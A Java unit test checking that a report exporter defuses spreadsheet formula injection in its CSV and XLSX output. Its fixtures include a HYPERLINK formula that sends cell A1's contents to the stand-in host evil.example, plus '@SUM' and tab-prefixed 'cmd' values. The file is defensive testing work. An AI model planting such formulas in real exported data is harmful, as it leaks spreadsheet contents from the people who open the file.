package io.github.kaohe.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.kaohe.data.CsvDataReader;
import io.github.kaohe.data.Dataset;
import io.github.kaohe.data.Period;
import io.github.kaohe.eval.Evaluator;
import io.github.kaohe.load.PolicyLoader;
import io.github.kaohe.model.Language;
import io.github.kaohe.model.Policy;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

/**
 * Names from the data that a spreadsheet would run as formulas ({@code =HYPERLINK(…)}) are written
 * as text with a quote before them, in CSV and in the workbook; numbers stay numbers.
 */
class SpreadsheetInjectionTest {
  private static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"甲\")";

  private static Report report() throws Exception {
    String yaml;
    try (InputStream in = Objects.requireNonNull(SpreadsheetInjectionTest.class.getResourceAsStream("/small.yaml"))) {
      yaml = new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
    yaml = yaml.replace("{zh: 甲, en: Alpha}", "{zh: '" + LINK.replace("'", "''") + "', en: '+1'}")
        .replace("{zh: 乙, en: Beta}", "{zh: '@SUM(A1:A9)', en: '-2'}")
        .replace("{zh: 丙, en: Gamma}", "{zh: \"\\tcmd\", en: Gamma}");
    Policy policy = PolicyLoader.create().load(yaml, "small.yaml");
    Dataset data = CsvDataReader.forScheme(policy.scheme("firms")).read("""
        entity,period,tax,place,税收增速,title
        a,2015,100,1,10,1
        b,2015,80,3,20,2
        c,2015,50,11,-5,
        """, "firms.csv");
    return Report.of(Evaluator.of(policy).evaluate("firms", data, List.of(Period.year(2015))));
  }

  @Test
  void textCellsThatStartAsAFormulaAreQuoted() {
    assertThat(CellText.neutralised(LINK)).isEqualTo("'" + LINK);
    for (String t : new String[] {"+1", "-2", "@x", "\tx", "\rx"}) {
      assertThat(CellText.neutralised(t)).isEqualTo("'" + t);
    }
    assertThat(CellText.neutralised("汴西")).isEqualTo("汴西");
    assertThat(CellText.neutralised("a=b")).isEqualTo("a=b");
    assertThat(CellText.neutralised("")).isEmpty();
  }

  @Test
  void theCsvReportQuotesFormulaNamesAndLeavesNumbersAlone() throws Exception {
    String csv = CsvReport.write(report(), Language.ZH);

    assertThat(csv).contains(",\"'" + LINK.replace("\"", "\"\"") + "\",", ",'@SUM(A1:A9),", ",'\tcmd,");
    assertThat(CsvReport.write(report(), Language.EN)).contains(",'+1,", ",'-2,");
    for (String line : csv.substring(1).split("\r\n")) {
      String[] cells = line.split(",");
      assertThat(cells[cells.length - 1]).doesNotStartWith("'"); // the points of the last indicator, a number
    }
  }

  @Test
  void theWorkbookWritesFormulaNamesAsQuotedTextAndNumbersAsNumbers() throws Exception {
    List<Cell> cells = new ArrayList<>();
    try (ReadableWorkbook book = new ReadableWorkbook(new ByteArrayInputStream(XlsxReport.write(report(), Language.ZH)))) {
      for (Row row : book.getFirstSheet().read()) {
        for (Cell cell : row) {
          if (cell != null && cell.getType() != CellType.EMPTY) {
            cells.add(cell);
          }
        }
      }
    }
    assertThat(cells).filteredOn(c -> c.getType() == CellType.STRING).extracting(Cell::getText)
        .contains("'" + LINK, "'@SUM(A1:A9)", "'\tcmd")
        .noneMatch(t -> t.startsWith("=") || t.startsWith("@"));
    assertThat(cells).filteredOn(c -> c.getType() == CellType.FORMULA).isEmpty();
    assertThat(cells).filteredOn(c -> c.getType() == CellType.NUMBER).isNotEmpty();
  }
}
